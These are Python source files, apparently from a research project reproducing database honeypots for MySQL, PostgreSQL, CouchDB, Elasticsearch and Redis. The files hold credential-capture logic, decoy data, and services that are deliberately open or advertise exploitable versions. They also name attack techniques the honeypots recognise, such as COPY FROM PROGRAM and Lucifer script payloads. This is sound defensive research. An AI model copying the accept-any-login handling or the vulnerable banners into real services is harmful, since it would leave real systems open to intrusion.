        if not self._authenticated:
            return pg.build_error_response(
                "FATAL", "08P01", "query before authentication")
        return self._scripted_response(sql, response_category(sql))

    def _scripted_response(self, sql: str, action: str) -> bytes:
        if action == "SELECT VERSION":
            return (pg.build_row_description(["version"])
                    + pg.build_data_row([f"PostgreSQL {SERVER_VERSION}"])
                    + pg.build_command_complete("SELECT 1")
                    + pg.build_ready_for_query())
        if action in ("CREATE TABLE", "CREATE USER"):
            return (pg.build_command_complete(action)
                    + pg.build_ready_for_query())
        if action == "DROP TABLE":
            return (pg.build_command_complete("DROP TABLE")
                    + pg.build_ready_for_query())
        if action in ("ALTER USER", "ALTER ROLE"):
            return (pg.build_command_complete("ALTER ROLE")
                    + pg.build_ready_for_query())
        if action == "COPY FROM PROGRAM":
            return (pg.build_command_complete("COPY 1")
                    + pg.build_ready_for_query())
        if action in ("INSERT", "UPDATE", "DELETE"):
            tag = {"INSERT": "INSERT 0 1", "UPDATE": "UPDATE 1",
                   "DELETE": "DELETE 1"}[action]
            return (pg.build_command_complete(tag)
                    + pg.build_ready_for_query())
        if action in ("SET", "SHOW"):
            return (pg.build_command_complete(action)
                    + pg.build_ready_for_query())
        if action in ("SELECT", "SELECT PG_SLEEP"):
            return (pg.build_row_description(["cmd_output"])
                    + pg.build_data_row([""])
                    + pg.build_command_complete("SELECT 1")
                    + pg.build_ready_for_query())
        return (pg.build_error_response(
            "ERROR", "42601", f'syntax error at or near "{sql[:32]}"')
            + pg.build_ready_for_query())
