"""Medium-interaction MySQL honeypot (extension).

The paper's deployment kept MySQL at the low-interaction tier; the
parallel study it compares against (van Liebergen et al., NDSS 2025)
ran *interactive* MySQL honeypots and harvested database ransom notes
from them.  This extension honeypot provides that capability: any login
is accepted (and captured), and a scripted query handler backed by a
tiny in-memory table store lets ransom attacks play out -- enumerate,
dump, drop, leave a note.
"""

from __future__ import annotations

import re

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.pipeline.logstore import EventType
from repro.protocols import mysql
from repro.protocols.errors import ProtocolError

SERVER_VERSION = "8.0.36"

#: Decoy schema planted in each instance.
DECOY_DATABASE = "shop"
DECOY_TABLES = {
    "users": [["1", "alice", "alice@example.com"],
              ["2", "bob", "bob@example.com"],
              ["3", "carol", "carol@example.com"]],
    "orders": [["1", "1", "49.90"], ["2", "3", "120.00"]],
}

_SQL_ACTIONS: list[tuple[re.Pattern[str], str]] = [
    (re.compile(r"^\s*select\s+@@version", re.I), "SELECT @@VERSION"),
    (re.compile(r"^\s*select\s+version\s*\(", re.I), "SELECT VERSION"),
    (re.compile(r"^\s*show\s+databases", re.I), "SHOW DATABASES"),
    (re.compile(r"^\s*show\s+tables", re.I), "SHOW TABLES"),
    (re.compile(r"^\s*select\b.*\bfrom\b", re.I | re.S), "SELECT FROM"),
    (re.compile(r"^\s*select\b", re.I), "SELECT"),
    (re.compile(r"^\s*drop\s+table", re.I), "DROP TABLE"),
    (re.compile(r"^\s*drop\s+database", re.I), "DROP DATABASE"),
    (re.compile(r"^\s*create\s+table", re.I), "CREATE TABLE"),
    (re.compile(r"^\s*create\s+database", re.I), "CREATE DATABASE"),
    (re.compile(r"^\s*insert\b", re.I), "INSERT"),
    (re.compile(r"^\s*use\b", re.I), "USE"),
    (re.compile(r"^\s*set\b", re.I), "SET"),
]


def normalize_mysql_action(sql: str) -> str:
    """Map a statement to its logged action token."""
    for pattern, action in _SQL_ACTIONS:
        if pattern.search(sql):
            return action
    return "UNKNOWN SQL"


class MediumInteractionMySQL(Honeypot):
    """Interactive MySQL honeypot with a decoy schema."""

    honeypot_type = "mysql-medium"
    dbms = "mysql"
    interaction = "medium"
    default_port = 3306

    def __init__(self, honeypot_id: str, *, config: str = "fake_data",
                 port: int | None = None):
        super().__init__(honeypot_id, config=config, port=port)
        self.tables: dict[str, list[list[str]]] = (
            {name: [list(row) for row in rows]
             for name, rows in DECOY_TABLES.items()}
            if config == "fake_data" else {})

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _MediumMySQLSession(self.info, context, self.tables)


_IDENTIFIER = re.compile(r"(?:from|table(?:\s+if\s+exists)?|into)\s+"
                         r"[`\"]?(\w+)[`\"]?", re.I)


class _MediumMySQLSession(HoneypotSession):

    _SALT = b"\x11\x22\x33\x44\x55\x66\x77\x88" \
            b"\x99\xaa\xbb\xcc\xdd\xee\xff\x01\x02\x03\x04\x05"

    def __init__(self, info: HoneypotInfo, context: SessionContext,
                 tables: dict[str, list[list[str]]]):
        super().__init__(info, context)
        self._tables = tables
        self._reader = mysql.PacketReader()
        self._phase = "login"
        self._username: str | None = None

    def on_connect(self) -> bytes:
        return mysql.frame(
            mysql.build_handshake_v10(SERVER_VERSION, 2001, self._SALT), 0)

    def on_data(self, data: bytes) -> bytes:
        try:
            packets = self._reader.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return b""
        out = bytearray()
        for _sequence_id, payload in packets:
            out += self._handle(payload)
            if self.closed:
                break
        return bytes(out)

    def _handle(self, payload: bytes) -> bytes:
        if self._phase == "login":
            return self._handle_login(payload)
        if self._phase == "password":
            return self._handle_password(payload)
        return self._handle_command(payload)

    def _handle_login(self, payload: bytes) -> bytes:
        try:
            response = mysql.parse_handshake_response(payload)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=payload)
            self.closed = True
            return b""
        self._username = response.username
        self._phase = "password"
        return mysql.frame(mysql.build_auth_switch_request(
            mysql.CLEAR_PASSWORD_PLUGIN), 2)

    def _handle_password(self, payload: bytes) -> bytes:
        password = mysql.parse_clear_password(payload)
        self.log(EventType.LOGIN_ATTEMPT, action="login",
                 username=self._username, password=password)
        # Deliberately open: any credential is accepted.
        self._phase = "command"
        return mysql.frame(mysql.build_ok(), 4)

    def _handle_command(self, payload: bytes) -> bytes:
        try:
            opcode, argument = mysql.parse_command(payload)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=payload)
            return mysql.frame(mysql.build_err(
                1064, "42000", "malformed packet"), 1)
        if opcode == mysql.COM_QUIT:
            self.closed = True
            return b""
        if opcode == mysql.COM_PING:
            self.log(EventType.COMMAND, action="PING")
            return mysql.frame(mysql.build_ok(), 1)
        if opcode == mysql.COM_QUERY:
            sql = argument.decode("utf-8", "replace")
            action = normalize_mysql_action(sql)
            self.log(EventType.QUERY, action=action, raw=sql)
            return self._execute(sql, action)
        self.log(EventType.COMMAND, action=f"COM_{opcode:#04x}")
        return mysql.frame(mysql.build_err(
            1047, "08S01", "Unknown command"), 1)

    def _execute(self, sql: str, action: str) -> bytes:
        if action in ("SELECT @@VERSION", "SELECT VERSION"):
            return mysql.build_text_resultset(
                ["@@version"], [[SERVER_VERSION]])
        if action == "SHOW DATABASES":
            rows = [["information_schema"], [DECOY_DATABASE], ["mysql"]]
            return mysql.build_text_resultset(["Database"], rows)
        if action == "SHOW TABLES":
            rows = [[name] for name in sorted(self._tables)]
            return mysql.build_text_resultset(
                [f"Tables_in_{DECOY_DATABASE}"], rows)
        if action == "SELECT FROM":
            table = self._target_table(sql)
            if table is None:
                return mysql.frame(mysql.build_err(
                    1146, "42S02", "Table doesn't exist"), 1)
            rows = self._tables[table]
            width = max((len(row) for row in rows), default=1)
            columns = [f"col{index}" for index in range(width)]
            return mysql.build_text_resultset(columns, rows)
        if action == "DROP TABLE":
            table = self._target_table(sql)
            if table is None:
                return mysql.frame(mysql.build_err(
                    1051, "42S02", "Unknown table"), 1)
            del self._tables[table]
            return mysql.frame(mysql.build_ok(), 1)
        if action == "DROP DATABASE":
            self._tables.clear()
            return mysql.frame(mysql.build_ok(), 1)
        if action == "CREATE TABLE":
            match = _IDENTIFIER.search(sql)
            if match:
                self._tables.setdefault(match.group(1), [])
            return mysql.frame(mysql.build_ok(), 1)
        if action == "INSERT":
            match = _IDENTIFIER.search(sql)
            if match:
                values = re.search(r"values\s*\((.*)\)", sql,
                                   re.I | re.S)
                row = ([part.strip().strip("'\"")
                        for part in values.group(1).split(",")]
                       if values else [])
                self._tables.setdefault(match.group(1), []).append(row)
            return mysql.frame(mysql.build_ok(affected_rows=1), 1)
        if action in ("USE", "SET", "CREATE DATABASE", "SELECT"):
            return mysql.frame(mysql.build_ok(), 1)
        return mysql.frame(mysql.build_err(
            1064, "42000", "You have an error in your SQL syntax"), 1)

    def _target_table(self, sql: str) -> str | None:
        match = _IDENTIFIER.search(sql)
        if match and match.group(1) in self._tables:
            return match.group(1)
        return None
