"""Extension honeypots for lesser-studied DBMS platforms.

The paper's limitations section names MariaDB, CockroachDB and CouchDB
as platforms a broader deployment should cover; these honeypots provide
that coverage on top of the existing protocol substrates:

* :class:`LowInteractionMariaDB` -- MariaDB speaks the MySQL protocol
  with a distinctive version banner,
* :class:`CockroachHoneypot` -- CockroachDB speaks pgwire, so Sticky
  Elephant's session logic is reused under a CockroachDB identity,
* :class:`CouchDBHoneypot` -- a medium-interaction CouchDB REST server
  (HTTP), capturing ``_session`` credentials and enumerations.
"""

from __future__ import annotations

import json
import urllib.parse

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.honeypots.lowint import LowInteractionMySQL, _MySQLSession
from repro.honeypots.sticky_elephant import StickyElephant
from repro.pipeline.logstore import EventType
from repro.protocols import http11, mysql
from repro.protocols.errors import ProtocolError

#: MariaDB advertises itself through the replication-compatible banner.
MARIADB_VERSION = "5.5.5-10.6.12-MariaDB-0ubuntu0.22.04.1"


class _MariaDBSession(_MySQLSession):

    def on_connect(self) -> bytes:
        return mysql.frame(
            mysql.build_handshake_v10(MARIADB_VERSION, 1002, self._SALT),
            0)


class LowInteractionMariaDB(LowInteractionMySQL):
    """MariaDB credential-capture honeypot (MySQL wire protocol)."""

    honeypot_type = "qeeqbox"
    dbms = "mariadb"
    interaction = "low"
    default_port = 3306

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _MariaDBSession(self.info, context)


class CockroachHoneypot(StickyElephant):
    """CockroachDB honeypot: pgwire with a CockroachDB identity.

    CockroachDB clients connect over the PostgreSQL protocol, so the
    Sticky Elephant session machinery applies unchanged; only the
    service identity differs.
    """

    honeypot_type = "sticky_elephant"
    dbms = "cockroachdb"
    interaction = "medium"
    default_port = 26257


#: CouchDB's banner document.
COUCHDB_BANNER = {
    "couchdb": "Welcome",
    "version": "3.3.1",
    "git_sha": "1fd50b82a",
    "uuid": "3f5e8a7bd9c14c2ea1d5b6c7d8e9f0a1",
    "features": ["access-ready", "partitioned", "pluggable-storage-"
                 "engines", "reshard", "scheduler"],
    "vendor": {"name": "The Apache Software Foundation"},
}


class CouchDBHoneypot(Honeypot):
    """Medium-interaction CouchDB honeypot (HTTP REST).

    Captures ``POST /_session`` credentials (CouchDB's cookie login),
    answers the enumeration endpoints scanners hit (``/``, ``/_all_dbs``,
    ``/_utils``), and lets documents be "created" so ransom-style
    attacks play out.
    """

    honeypot_type = "couchdb-honeypot"
    dbms = "couchdb"
    interaction = "medium"
    default_port = 5984

    def __init__(self, honeypot_id: str, *, config: str = "default",
                 port: int | None = None):
        super().__init__(honeypot_id, config=config, port=port)
        self.databases: dict[str, list[dict]] = {
            "customers": [{"_id": f"cust-{index}", "tier": "gold"}
                          for index in range(40)],
        }

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _CouchDBSession(self.info, context, self.databases)


class _CouchDBSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext,
                 databases: dict[str, list[dict]]):
        super().__init__(info, context)
        self._databases = databases
        self._parser = http11.HttpRequestParser()

    def on_data(self, data: bytes) -> bytes:
        try:
            requests = self._parser.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return http11.build_response(400, json.dumps(
                {"error": "bad_request"}))
        out = bytearray()
        for request in requests:
            out += self._handle(request)
        return bytes(out)

    def _handle(self, request: http11.HttpRequest) -> bytes:
        if request.method == "POST" and request.path == "/_session":
            return self._handle_login(request)
        action = f"{request.method} {request.path}"
        raw = urllib.parse.unquote(request.target)
        if request.body:
            raw += " " + request.body.decode("utf-8", "replace")
        self.log(EventType.HTTP_REQUEST, action=action, raw=raw)
        return self._route(request)

    def _handle_login(self, request: http11.HttpRequest) -> bytes:
        body = request.body.decode("utf-8", "replace")
        if request.headers.get("content-type", "").startswith(
                "application/json"):
            try:
                fields = json.loads(body or "{}")
            except json.JSONDecodeError:
                fields = {}
        else:
            parsed = urllib.parse.parse_qs(body)
            fields = {key: values[0] for key, values in parsed.items()}
        username = str(fields.get("name", ""))
        password = str(fields.get("password", ""))
        self.log(EventType.LOGIN_ATTEMPT, action="POST /_session",
                 username=username, password=password)
        return http11.build_response(401, json.dumps(
            {"error": "unauthorized",
             "reason": "Name or password is incorrect."}))

    def _route(self, request: http11.HttpRequest) -> bytes:
        path = request.path
        if path == "/":
            return http11.build_response(200, json.dumps(COUCHDB_BANNER))
        if path == "/_all_dbs":
            return http11.build_response(200, json.dumps(
                sorted(self._databases)))
        if path == "/_utils" or path.startswith("/_utils/"):
            return http11.build_response(
                200, "<html><title>Fauxton</title></html>",
                content_type="text/html")
        if path == "/_membership":
            return http11.build_response(200, json.dumps(
                {"all_nodes": ["couchdb@127.0.0.1"],
                 "cluster_nodes": ["couchdb@127.0.0.1"]}))
        segments = [seg for seg in path.split("/") if seg]
        if not segments:
            return http11.build_response(404, json.dumps(
                {"error": "not_found"}))
        database = segments[0]
        if request.method == "PUT" and len(segments) == 1:
            self._databases.setdefault(database, [])
            return http11.build_response(201, json.dumps({"ok": True}))
        if request.method == "DELETE" and len(segments) == 1:
            existed = self._databases.pop(database, None) is not None
            if existed:
                return http11.build_response(200, json.dumps(
                    {"ok": True}))
            return http11.build_response(404, json.dumps(
                {"error": "not_found"}))
        if database not in self._databases:
            return http11.build_response(404, json.dumps(
                {"error": "not_found", "reason": "Database does not "
                                                 "exist."}))
        documents = self._databases[database]
        if len(segments) == 2 and segments[1] == "_all_docs":
            rows = [{"id": doc.get("_id", str(index)), "value": {}}
                    for index, doc in enumerate(documents)]
            return http11.build_response(200, json.dumps(
                {"total_rows": len(rows), "rows": rows}))
        if request.method in ("PUT", "POST"):
            try:
                document = json.loads(request.body or b"{}")
            except json.JSONDecodeError:
                document = {}
            if len(segments) == 2:
                document.setdefault("_id", segments[1])
            documents.append(document)
            return http11.build_response(201, json.dumps(
                {"ok": True, "id": document.get("_id", "")}))
        if len(segments) == 1:
            return http11.build_response(200, json.dumps(
                {"db_name": database, "doc_count": len(documents)}))
        return http11.build_response(404, json.dumps(
            {"error": "not_found"}))
