"""Honeypot session framework.

A honeypot is a factory of :class:`HoneypotSession` objects.  Sessions
are plain byte-stream state machines -- ``connect() -> greeting bytes``,
``receive(data) -> reply bytes`` -- so the same session code runs over

* real TCP via :mod:`repro.honeypots.tcp` (examples, integration tests),
* the in-process :class:`MemoryWire` used by the fast experiment driver.

Every observable action is emitted as a :class:`~repro.pipeline.logstore.LogEvent`
through the session's :class:`SessionContext`.
"""

from __future__ import annotations

import abc
from dataclasses import dataclass, field
from functools import partial

from repro.netsim.clock import SimClock
from repro.pipeline.logstore import (EventSink, EventType, LogEvent,
                                     truncate_raw)
from repro.resilience import faults


@dataclass(slots=True)
class SessionContext:
    """Everything a session needs to observe its peer and log events.

    The trailing fields are per-session telemetry counters, maintained
    by the transports (:class:`MemoryWire`, the TCP server) and
    :meth:`HoneypotSession.log`; drivers fold them into run totals.
    """

    src_ip: str
    src_port: int
    clock: SimClock
    sink: EventSink
    #: Bytes received from / sent to the client on this session.
    bytes_in: int = 0
    bytes_out: int = 0
    #: Log events emitted by this session.
    events: int = 0


@dataclass(frozen=True)
class HoneypotInfo:
    """Static identity of one deployed honeypot instance."""

    honeypot_id: str
    honeypot_type: str
    dbms: str
    interaction: str
    config: str
    port: int


class HoneypotSession(abc.ABC):
    """One client connection against one honeypot instance."""

    def __init__(self, info: HoneypotInfo, context: SessionContext):
        self.info = info
        self.context = context
        #: Set by the session (or transport) when the connection is
        #: done; transports must stop reading once it is true.
        self.closed = False
        self._disconnect_logged = False
        # Session-constant LogEvent fields, bound once: log() only has
        # to supply the per-event fields (~160k events per run).
        self._event = partial(
            LogEvent,
            honeypot_id=info.honeypot_id,
            honeypot_type=info.honeypot_type,
            dbms=info.dbms,
            interaction=info.interaction,
            config=info.config,
            src_ip=context.src_ip,
            src_port=context.src_port,
        )

    # -- transport interface --------------------------------------------------

    def connect(self) -> bytes:
        """Open the session; returns the server greeting (may be empty)."""
        self.log(EventType.CONNECT)
        return self.on_connect()

    def receive(self, data: bytes) -> bytes:
        """Feed client bytes; returns the server reply (may be empty).

        Sessions signal connection teardown by setting :attr:`closed`;
        transports must stop reading afterwards.
        """
        if self.closed:
            return b""
        return self.on_data(data)

    def disconnect(self) -> None:
        """Close the session (idempotent).

        Runs even when the session closed *itself* earlier (e.g. after
        denying a login), so the disconnect is always logged exactly
        once per connection.
        """
        if not self._disconnect_logged:
            self._disconnect_logged = True
            self.closed = True
            self.on_disconnect()
            self.log(EventType.DISCONNECT)

    # -- honeypot behavior ------------------------------------------------------

    def on_connect(self) -> bytes:
        """Produce the protocol greeting; default none."""
        return b""

    @abc.abstractmethod
    def on_data(self, data: bytes) -> bytes:
        """Handle client bytes and produce the reply."""

    def on_disconnect(self) -> None:
        """Hook for teardown; default no-op."""

    # -- logging ----------------------------------------------------------------

    def log(self, event_type: EventType, *, action: str | None = None,
            username: str | None = None, password: str | None = None,
            raw: bytes | str | None = None) -> None:
        """Emit one :class:`LogEvent` for this session."""
        context = self.context
        context.events += 1
        context.sink(self._event(
            timestamp=context.clock.timestamp(),
            event_type=event_type.value,
            action=action,
            username=username,
            password=password,
            raw=None if raw is None else truncate_raw(raw),
        ))


class Honeypot(abc.ABC):
    """A deployed honeypot instance: static info + session factory."""

    #: Software identity, e.g. ``"qeeqbox"``; set by subclasses.
    honeypot_type: str = "generic"
    #: Emulated DBMS; set by subclasses.
    dbms: str = "generic"
    #: Interaction level; set by subclasses.
    interaction: str = "low"
    #: Default TCP port of the emulated service; set by subclasses.
    default_port: int = 0

    def __init__(self, honeypot_id: str, *, config: str = "default",
                 port: int | None = None):
        self.info = HoneypotInfo(
            honeypot_id=honeypot_id,
            honeypot_type=self.honeypot_type,
            dbms=self.dbms,
            interaction=self.interaction,
            config=config,
            port=port if port is not None else self.default_port,
        )

    @abc.abstractmethod
    def new_session(self, context: SessionContext) -> HoneypotSession:
        """Create a session for one incoming connection."""


@dataclass(slots=True)
class MemoryWire:
    """In-process client side of a honeypot session.

    Mirrors a blocking socket API: :meth:`connect`, :meth:`send` (returns
    the server's reply bytes), :meth:`close`.  Used by attacker agents in
    fast simulation mode, and by unit tests.
    """

    honeypot: Honeypot
    context: SessionContext
    #: Fault plan applied to payloads in flight.  ``None`` (the default)
    #: resolves the ambient plan lazily on first :meth:`send`; the
    #: replay driver passes the per-visit plan explicitly so the ~69k
    #: sends per run skip the ambient lookup -- and skip ``mangle()``
    #: entirely when the plan is the no-op singleton.
    fault_plan: faults.FaultPlan | None = None
    _session: HoneypotSession | None = field(default=None, init=False)
    _greeting: bytes = field(default=b"", init=False)

    def connect(self) -> bytes:
        """Open the connection; returns the server greeting."""
        if self._session is not None:
            raise RuntimeError("wire already connected")
        self._session = self.honeypot.new_session(self.context)
        self._greeting = self._session.connect()
        self.context.bytes_out += len(self._greeting)
        return self._greeting

    def send(self, data: bytes) -> bytes:
        """Send bytes; returns whatever the server replies.

        The fault plan may corrupt or truncate the payload in flight
        (``wire.corrupt`` / ``wire.truncate``) -- the in-memory analogue
        of a hostile or lossy network path.
        """
        if self._session is None:
            raise RuntimeError("wire not connected")
        plan = self.fault_plan
        if plan is None:  # ambient semantics for tests / TCP transports
            plan = faults.current()
        if not plan.is_noop:
            data = plan.mangle("wire", data)
        self.context.bytes_in += len(data)
        reply = self._session.receive(data)
        self.context.bytes_out += len(reply)
        return reply

    @property
    def server_closed(self) -> bool:
        """Whether the server has torn the connection down."""
        return self._session is not None and self._session.closed

    def close(self) -> None:
        """Close the connection (client side)."""
        if self._session is not None:
            self._session.disconnect()
