"""Medium-interaction Elasticsearch honeypot (the paper's Elasticpot).

An HTTP/1.1 server replicating a deliberately old, unauthenticated
Elasticsearch node.  System endpoints answer from JSON templates -- the
customization mechanism of the original Elasticpot -- while document
endpoints are backed by a real in-memory index store: documents PUT by
attackers are searchable afterwards, indices can be dropped, and
``/_cat/indices`` reflects the live state.  The ``/_search`` handler
accepts the Java ``script_fields`` payloads that the Lucifer botnet
uses for remote code execution (logging them verbatim).
"""

from __future__ import annotations

import json
import re
import urllib.parse

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.pipeline.logstore import EventType
from repro.protocols import http11
from repro.protocols.errors import ProtocolError

#: Advertised version: old enough to look exploitable (dynamic scripting).
ES_VERSION = "1.4.2"

CLUSTER_NAME = "elasticsearch"
NODE_NAME = "Franklin Storm"


def default_templates() -> dict[str, dict]:
    """The built-in endpoint -> JSON response templates."""
    return {
        "/": {
            "name": NODE_NAME,
            "cluster_name": CLUSTER_NAME,
            "version": {
                "number": ES_VERSION,
                "build_hash": "927caff6f05403e936c20bf4529f144f0c89fd8c",
                "build_timestamp": "2014-12-16T14:11:12Z",
                "build_snapshot": False,
                "lucene_version": "4.10.2",
            },
            "tagline": "You Know, for Search",
        },
        "/_nodes": {
            "cluster_name": CLUSTER_NAME,
            "nodes": {
                "x1JG6g9PRHy6ClCOO2-C4g": {
                    "name": NODE_NAME,
                    "transport_address": "inet[/172.17.0.2:9300]",
                    "host": "db-prod-01",
                    "ip": "172.17.0.2",
                    "version": ES_VERSION,
                    "http_address": "inet[/172.17.0.2:9200]",
                    "os": {"name": "Linux", "arch": "amd64"},
                },
            },
        },
        "/_cluster/health": {
            "cluster_name": CLUSTER_NAME,
            "status": "yellow",
            "number_of_nodes": 1,
            "number_of_data_nodes": 1,
            "active_primary_shards": 5,
            "active_shards": 5,
        },
    }


class Elasticpot(Honeypot):
    """The medium-interaction Elasticsearch honeypot."""

    honeypot_type = "elasticpot"
    dbms = "elasticsearch"
    interaction = "medium"
    default_port = 9200

    def __init__(self, honeypot_id: str, *, config: str = "default",
                 port: int | None = None,
                 templates: dict[str, dict] | None = None,
                 seed: int = 2024):
        super().__init__(honeypot_id, config=config, port=port)
        self.templates = templates if templates is not None \
            else default_templates()
        # A small decoy index; attacker-indexed documents join it.
        from repro.netsim.mockaroo import MockarooGenerator

        generator = MockarooGenerator(seed=seed)
        self.indices: dict[str, list[dict]] = {
            "customers": [record.as_document()
                          for record in generator.customers(64)],
        }

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _ElasticSession(self.info, context, self.templates,
                               self.indices)


#: Path segments collapsed when normalizing an action token.
_HEX_ID = re.compile(r"^[0-9a-fA-F-]{8,}$")


def normalize_http_action(method: str, path: str) -> str:
    """Map a request to its clustering "term".

    API endpoints keep their path; index/document paths are collapsed so
    ``GET /customers/_doc/42`` and ``GET /users/_doc/7`` share a term.
    """
    segments = [seg for seg in path.split("/") if seg]
    normalized = []
    in_api = False
    for segment in segments:
        if segment.startswith("_"):
            in_api = True
            normalized.append(segment)
        elif _HEX_ID.match(segment) or segment.isdigit():
            normalized.append("<id>")
        elif in_api:
            # Non-id sub-resources of an API endpoint
            # (/_cluster/health) are part of the endpoint name.
            normalized.append(segment)
        else:
            normalized.append("<index>")
    return f"{method} /" + "/".join(normalized)


class _ElasticSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext,
                 templates: dict[str, dict],
                 indices: dict[str, list[dict]]):
        super().__init__(info, context)
        self._templates = templates
        self._indices = indices
        self._parser = http11.HttpRequestParser()

    def on_data(self, data: bytes) -> bytes:
        try:
            requests = self._parser.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return http11.build_response(
                400, json.dumps({"error": "malformed request"}))
        out = bytearray()
        for request in requests:
            out += self._handle(request)
        return bytes(out)

    def _handle(self, request: http11.HttpRequest) -> bytes:
        action = normalize_http_action(request.method, request.path)
        # Log the percent-decoded target so payload signatures (e.g.
        # scripted ``?source={...}`` bodies) stay recognizable.
        raw = urllib.parse.unquote(request.target)
        if request.body:
            raw += " " + request.body.decode("utf-8", "replace")
        self.log(EventType.HTTP_REQUEST, action=action, raw=raw)
        template = self._templates.get(request.path)
        if template is not None:
            return _render(template)
        if request.path == "/_cat/indices":
            return self._handle_cat_indices()
        if request.path == "/_stats":
            return self._handle_stats()
        if request.path.endswith("/_search") or request.path == "/_search":
            return self._handle_search(request)
        segments = [seg for seg in request.path.split("/") if seg]
        if request.method in ("PUT", "POST") and segments:
            return self._handle_index(segments, request)
        if request.method == "DELETE" and segments:
            if self._indices.pop(segments[0], None) is not None:
                return http11.build_response(200, json.dumps(
                    {"acknowledged": True}))
        return http11.build_response(404, json.dumps({
            "error": {
                "root_cause": [{"type": "index_not_found_exception",
                                "reason": "no such index"}],
                "type": "index_not_found_exception",
            },
            "status": 404,
        }))

    def _handle_cat_indices(self) -> bytes:
        lines = [f"yellow open {name} 5 1 {len(documents)} 0 "
                 f"{len(documents) * 330}b {len(documents) * 330}b"
                 for name, documents in sorted(self._indices.items())]
        return http11.build_response(200, "\n".join(lines) + "\n",
                                     content_type="text/plain")

    def _handle_stats(self) -> bytes:
        return http11.build_response(200, json.dumps({
            "_shards": {"total": 10, "successful": 5, "failed": 0},
            "indices": {name: {"primaries": {"docs":
                                             {"count": len(documents)}}}
                        for name, documents in self._indices.items()},
        }))

    def _handle_index(self, segments: list[str],
                      request: http11.HttpRequest) -> bytes:
        index = segments[0]
        try:
            document = json.loads(request.body or b"{}")
        except json.JSONDecodeError:
            document = {}
        if not isinstance(document, dict):
            document = {"value": document}
        self._indices.setdefault(index, []).append(document)
        return http11.build_response(201, json.dumps(
            {"_index": index, "result": "created"}))

    def _handle_search(self, request: http11.HttpRequest) -> bytes:
        # ``?source={...}`` carries the scripted payloads (Lucifer); the
        # stored documents come back as hits, which is what makes
        # dump-style scouting observable.
        segments = [seg for seg in request.path.split("/") if seg]
        if len(segments) >= 2 and segments[0] != "_all":
            documents = self._indices.get(segments[0], [])
            if segments[0] not in self._indices:
                return http11.build_response(404, json.dumps(
                    {"error": {"type": "index_not_found_exception"},
                     "status": 404}))
            scope = [(segments[0], doc) for doc in documents]
        else:
            scope = [(name, doc)
                     for name, documents in sorted(self._indices.items())
                     for doc in documents]
        hits = [{"_index": name, "_score": 1.0, "_source": doc}
                for name, doc in scope[:10]]
        body = {
            "took": 2,
            "timed_out": False,
            "_shards": {"total": 5, "successful": 5, "failed": 0},
            "hits": {"total": len(scope), "max_score": 1.0,
                     "hits": hits},
        }
        return http11.build_response(200, json.dumps(body))


def _render(template: dict) -> bytes:
    if "_raw" in template:
        return http11.build_response(200, template["_raw"],
                                     content_type="text/plain")
    status = template.get("_status", 200)
    body = {key: value for key, value in template.items()
            if key != "_status"}
    return http11.build_response(status, json.dumps(body))
