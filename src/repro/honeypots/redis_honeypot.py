"""Medium-interaction Redis honeypot (the paper's RedisHoneyPot).

Emulates an open (no-auth) Redis server backed by a real in-memory
keyspace (:mod:`repro.redis_engine`), responding to the command families
the original Go honeypot supports -- SET, GET, DEL, KEYS, TYPE, FLUSHDB,
INFO, CONFIG, SAVE, SLAVEOF, MODULE and friends -- which is exactly the
surface the recorded attacks (P2PInfect, ABCbot, CVE-2022-0543) exercise.

Two deployment configurations, matching Table 4:

* ``default`` -- empty out-of-the-box keyspace,
* ``fake_data`` -- preloaded with 200 Mockaroo user/password entries.
"""

from __future__ import annotations

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.netsim.mockaroo import MockarooGenerator
from repro.pipeline.logstore import EventType
from repro.protocols import resp
from repro.protocols.errors import ProtocolError
from repro.redis_engine import RedisEngine, WrongTypeError

#: Number of fake login entries planted in the ``fake_data`` config.
FAKE_LOGIN_ENTRIES = 200

OK = resp.SimpleString("OK")
PONG = resp.SimpleString("PONG")


def _build_engine(config: str, seed: int) -> RedisEngine:
    engine = RedisEngine()
    if config == "fake_data":
        generator = MockarooGenerator(seed=seed)
        for entry in generator.login_entries(FAKE_LOGIN_ENTRIES):
            engine.set(entry.username.encode(), entry.password.encode())
        engine.dirty = 0
    return engine


class RedisHoneypot(Honeypot):
    """The medium-interaction Redis honeypot (one engine per instance)."""

    honeypot_type = "redishoneypot"
    dbms = "redis"
    interaction = "medium"
    default_port = 6379

    def __init__(self, honeypot_id: str, *, config: str = "default",
                 port: int | None = None, seed: int = 2024):
        if config not in ("default", "fake_data"):
            raise ValueError(f"unsupported RedisHoneypot config {config!r}")
        super().__init__(honeypot_id, config=config, port=port)
        self.engine = _build_engine(config, seed)

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _RedisSession(self.info, context, self.engine)


class _RedisSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext,
                 engine: RedisEngine):
        super().__init__(info, context)
        self._engine = engine
        self._parser = resp.RespParser()

    def on_disconnect(self) -> None:
        pending = self._parser.take_pending()
        if pending:
            # Trailing bytes that never formed a command (e.g. a JDWP
            # handshake) are still evidence worth keeping.
            self.log(EventType.MALFORMED, raw=pending)

    def on_data(self, data: bytes) -> bytes:
        try:
            values = self._parser.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            return resp.encode(resp.Error("ERR Protocol error"))
        out = bytearray()
        for value in values:
            try:
                tokens = resp.command_tokens(value)
            except ProtocolError:
                self.log(EventType.MALFORMED, raw=repr(value))
                out += resp.encode(resp.Error("ERR Protocol error"))
                continue
            out += self._dispatch(tokens)
